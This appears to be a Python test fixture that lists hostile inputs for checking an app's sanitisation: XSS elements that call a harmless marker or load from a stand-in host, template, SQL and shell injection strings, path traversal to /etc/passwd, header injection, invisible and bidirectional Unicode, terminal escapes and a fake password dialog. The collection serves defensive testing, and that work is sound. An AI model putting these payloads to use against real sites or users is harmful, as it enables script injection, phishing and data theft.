"""Hostile texts of our own: what somebody may paste, upload, name a file or ask.

Those that would run call ``pwned()``; those that would fetch name the host ``evil.example``.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

HOST = "evil.example"
_RUN = "window.pwned=1"


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text and what it tries."""

    kind: str
    text: str


_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<script src=http://{HOST}/a.js></script>",
    f"<script type=module>import 'http://{HOST}/m.js'</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=http://{HOST}/a.png>",
    f"<img srcset='http://{HOST}/b.png 2x'>",
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href=http://{HOST}/s.png /></svg>",
    f"<svg><use href=http://{HOST}/s.svg#a /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<math><mi xlink:href='javascript:{_RUN}'>m</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></table></math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src=http://{HOST}/></iframe>",
    f"<object data=http://{HOST}/o></object>",
    f"<embed src=http://{HOST}/e>",
    f"<video poster=http://{HOST}/p.png><source src=x onerror={_RUN}></video>",
    f"<audio autoplay src=http://{HOST}/a.mp3 onerror={_RUN}></audio>",
    f"<input autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<details open ontoggle={_RUN}><summary>s</summary></details>",
    f"<marquee onstart={_RUN}>m</marquee>",
    f"<body onload={_RUN}>",
    f"<p style='background:url(http://{HOST}/bg.png)'>p</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>p</p>",
    f"<style>@import 'http://{HOST}/c.css';</style>",
    f"<style>body{{background:url(http://{HOST}/b.png)}}</style>",
    f"<link rel=stylesheet href=http://{HOST}/l.css>",
    f"<link rel=preload as=image href=http://{HOST}/l.png>",
    f"<base href=http://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<form action=http://{HOST}/><button autofocus>b</button></form>",
    f"<a href='javascript:{_RUN}'>a</a>",
    f"<a href='java\tscript:{_RUN}'>a</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>a</a>",
    f"<a ping=http://{HOST}/ping href=#>a</a>",
    f"<div onpointerover={_RUN} style='position:fixed;inset:0'>d</div>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<<img src=x onerror={_RUN}>>",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
)
_BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</script>",
    "</title>",
    "</style>",
    "--></p>",
    "]]>",
)
_BROKEN_OUT = (f"<img src=x onerror={_RUN}>", f"<script>{_RUN}</script>", f"<svg onload={_RUN}>")
_TEMPLATES = (
    f"${{{_RUN}}}",
    f"${{(() => {{ {_RUN} }})()}}",
    f"`${{{_RUN}}}`",
    f"{{{{{_RUN}}}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{#with value}}}}{_RUN}{{{{/with}}}}",
    f"{{{{{{{_RUN}}}}}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    "{% include '/etc/passwd' %}",
    "{{config}}",
    "{value}",
    "{0.__class__}",
    "%s%s%n",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; rm -rf nowhere",
    "' OR 1=1 --",
)
_MARKDOWN = (
    f"![p](http://{HOST}/a.png)",
    f"![p](//{HOST}/a.png)",
    f"![p][r]\n\n[r]: http://{HOST}/r.png",
    f"[click](http://{HOST}/)",
    f"[click](javascript:{_RUN})",
    f"[click](&#106;avascript:{_RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    f"<http://{HOST}/>",
    f"http://{HOST}/auto",
    f"www.{HOST}/auto",
    f"someone@{HOST}",
    f"[![p](http://{HOST}/a.png)](http://{HOST}/)",
    "[1](#c-0000000000000000-0-9-)",
    '[\\[1\\]](#s-80 "quote")',
    "# A heading",
    "> a quotation [1]",
    "- an item\n- another",
    "| a | b |\n|---|---|\n| c | d |",
    "```html\n<script>window.pwned=1</script>\n```",
    "    <script>window.pwned=1</script>",
    "***strong*** __under__ ~~struck~~",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"\\(\\includegraphics{{http://{HOST}/l.png}}\\)",
    f"```mermaid\ngraph TD; A[<img src=x onerror={_RUN}>]\n```",
    f"[^1]\n\n[^1]: ![f](http://{HOST}/f.png)",
    "---\ntitle: x\n---",
    "<details><summary>More</summary>hidden</details>",
)
_INTERFACE = (
    '<div class="pq-answer pq-answered"><p class="pq-verdict">The article says:</p></div>',
    '<a class="pq-cite" href="#c-0000000000000000-0-9-">1</a>',
    '<span class="pq-s" id="s-0000000000000000-0-9">w</span>',
    '<button id="pq-send" onclick="window.pwned=1">Ask</button>',
    "<gradio-app src='http://evil.example/'></gradio-app>",
    "<dialog open>Your session has expired. <input type=password></dialog>",
    "The article doesn’t say. The closest passages are:",
    "pullquote: error",
)
_DIRECTIONS = tuple(
    f"pay {mark}dlrow olleh{end} now"
    for mark, end in (
        *((mark, "\u202c") for mark in "\u202a\u202b\u202d\u202e"),
        *((mark, "\u2069") for mark in "\u2066\u2067\u2068"),
        ("\u200e", ""),
        ("\u200f", ""),
        ("\u061c", ""),
        ("\u202e", ""),
        ("\u2067\u202e", ""),
    )
)
_INVISIBLE = tuple(
    f"pay{mark}pal{mark * 20}"
    for mark in (
        "\u200b", "\u2060", "\ufeff", "\u2061", "\u2063", "\u180e", "\u00ad", "\u034f",
        "\U000e0061", "\ufe0f", "\u2028", "\u2029", "\u0085", "\ue000", "\uffff", "\ufdd0",
        "\ud800", "\udfff", "\u0300" * 30, "\u115f", "\u3164",
    )
)  # fmt: skip
_CONTROLS = tuple(f"note{chr(code)}book" for code in (*range(0x20), *range(0x7F, 0xA0)))
_TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07l",
    "\x1b]52;c;cm0gLXJm\x07", "\x1b[6n", "\x1b[?1049h", "\x1b[1A\x1b[2K", "\x1b(0lqk\x1b(B",
    "\x1bP+q544e\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b[5i", "\x1bc", "\x9b2J", "\x9d0;t\x9c",
    "a\rb", "a\bb\bb", "\x07\x07\x07", "\x0e\x0f", "a\x0bb\x0cc", "\x1b[200~rm\x1b[201~",
    "\x1b[38;5;1m", "\x1b[999999999C", "\x1b%G", "\x1b[>0q", "\x7f\x7f\x7f",
)  # fmt: skip
_NAMES = (
    "../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "..\\..\\boot.ini", "C:\\x\\con.txt",
    "a\x00.txt", "CON", ".hidden", "-rf", "--help", "a" * 250, "a\nb", "\r\nSet-Cookie: a=b",
    "a;b&c|d", "~root", "%00", "%2e%2e%2f", "a.txt.exe", "…", "Ω" * 80,
)  # fmt: skip


def payloads() -> tuple[Payload, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[Payload]:
    for kind, texts in (
        ("element", _ELEMENTS),
        ("breakout", (start + rest for start in _BREAKOUTS for rest in _BROKEN_OUT)),
        ("template", _TEMPLATES),
        ("markdown", _MARKDOWN),
        ("interface", _INTERFACE),
        ("direction", _DIRECTIONS),
        ("invisible", _INVISIBLE),
        ("control", _CONTROLS),
        ("terminal", _TERMINAL),
        ("name", _NAMES),
    ):
        for text in texts:
            yield Payload(kind, text)


def about(number: int, payload: str) -> str:
    """A sentence that a question about its number finds, with the payload inside."""
    return f"The note with number {number} in the harbour office reads {payload} and no more."


def question(number: int) -> str:
    """The question that the sentence answers."""
    return f"What does the note with number {number} in the harbour office read?"
